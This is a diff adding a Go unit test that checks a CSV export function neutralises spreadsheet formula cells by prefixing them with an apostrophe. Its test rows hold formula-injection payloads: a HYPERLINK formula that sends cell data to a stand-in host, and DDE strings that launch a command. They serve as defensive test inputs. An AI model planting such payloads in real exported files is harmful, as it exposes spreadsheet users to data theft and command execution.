@@ -572,3 +572,28 @@ func clockVersions(t *testing.T, batch int) {
 		t.Errorf("batch %d: after a stale clock state: %v", batch, got)
 	}
 }
+
+// TestCSVNeutralisesFormulas: a cell a spreadsheet would run as a formula
+// is written as text; numbers, negative ones too, stay numbers.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	rows := [][]string{
+		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tx", "\rx"},
+		{"-3", "+4", "97.2", "张伟", "", "a=b"},
+	}
+	b, err := CSV(rows)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, cell := range got[0] {
+		if !strings.HasPrefix(cell, "'") || cell[1:] != rows[0][i] {
+			t.Errorf("formula cell %q written as %q", rows[0][i], cell)
+		}
+	}
+	if diff := cmp.Diff(rows[1], got[1]); diff != "" {
+		t.Errorf("plain cells changed (-want +got):\n%s", diff)
+	}
+}
